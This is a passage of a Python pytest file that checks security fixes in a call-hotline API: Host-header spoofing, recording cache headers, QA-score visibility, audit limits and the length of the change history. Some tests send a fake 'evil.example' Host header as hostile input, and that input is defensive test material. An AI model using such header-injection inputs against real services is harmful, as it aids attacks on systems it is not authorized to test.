    while len(body) < length:
        body += sock.recv(65536) or pytest.fail("closed in the body")
    return data


def _asgi_request(app, method: str, path: str, key: str, body) -> httpx.Response:
    """A request through httpx's ASGI transport, which hands the body to the app chunk by chunk."""
    import asyncio

    async def send() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://hotline.test") as http:
            headers = {**auth(key), "Content-Type": "application/json"}
            return await http.request(method, path, headers=headers, content=body)

    return asyncio.run(send())


# --- what the last review found besides the twelve items --------------------------------------------------------


def test_links_point_to_the_public_url_whatever_host_the_client_names(service):
    client, keys = service["client"], service["keys"]
    public = service["services"].settings.public_url.rstrip("/")
    status = client.get(f"/v1/calls/{CALL}", headers={**auth(keys["qa"]), "Host": "evil.example"})
    assert status.status_code == 200
    assert {link.split("/v1/")[0] for link in status.json()["links"].values()} == {public}
    pushed = client.post(
        "/v1/calls",
        headers={**auth(keys["telephony"]), "Host": "evil.example"},
        data={"call_id": "sec-host"},
        files={"recording": ("call.wav", service["wav"].read_bytes(), "audio/wav")},
    )
    assert pushed.headers["location"] == f"{public}/v1/calls/sec-host" == pushed.json()["status_url"]
    # no redirect built from the Host header for a trailing slash
    slash = client.get(f"/v1/calls/{CALL}/", headers={**auth(keys["qa"]), "Host": "evil.example"})
    assert slash.status_code == 404 and "location" not in slash.headers


def test_recordings_are_not_kept_in_the_browser_cache(service):
    audio = service["client"].get(f"/v1/calls/{CALL}/audio", headers=auth(service["keys"]["operator"]))
    assert audio.status_code == 200
    assert audio.headers["cache-control"] == "no-store"


def test_a_telephony_client_does_not_see_qa_scores(service):
    client, keys = service["client"], service["keys"]
    audit = client.post(f"/v1/calls/{CALL}/audit", headers=auth(keys["qa"]), json={"score": 77})
    assert audit.status_code == 201, audit.text
    assert client.get(f"/v1/calls/{CALL}", headers=auth(keys["qa"])).json()["audit_score"] == 77
    seen = client.get(f"/v1/calls/{CALL}", headers=auth(keys["telephony"])).json()
    assert seen["audit_score"] is None and seen["audited_at"] is None


def test_audits_of_one_call_are_bounded(service, monkeypatch):
    client, keys = service["client"], service["keys"]
    monkeypatch.setattr("api.routes.calls.MAX_AUDITS_PER_CALL", len(_audits(service)) + 2)
    for _ in range(2):
        assert client.post(f"/v1/calls/{CALL}/audit", headers=auth(keys["qa"]), json={"score": 50}).status_code == 201
    refused = client.post(f"/v1/calls/{CALL}/audit", headers=auth(keys["qa"]), json={"score": 50})
    assert refused.status_code == 409 and refused.json()["error"]["code"] == "too_many_audits"


def test_the_ticket_answer_carries_its_latest_changes_only(service, monkeypatch):
    monkeypatch.setattr("api.routes.calls.MAX_CHANGES_SHOWN", 3)
    for index in range(4):
        assert _patch(service, {"fields": {"caller_name": f"王{index}"}}).status_code == 200
    changes = service["client"].get(f"/v1/calls/{CALL}/ticket", headers=auth(service["keys"]["operator"])).json()
    assert len(changes["changes"]) == 3 and changes["changes"][-1]["changes"]["caller_name"]["new"] == "王3"


def _audits(service) -> list:
    return service["client"].get(f"/v1/calls/{CALL}/audits", headers=auth(service["keys"]["qa"])).json()
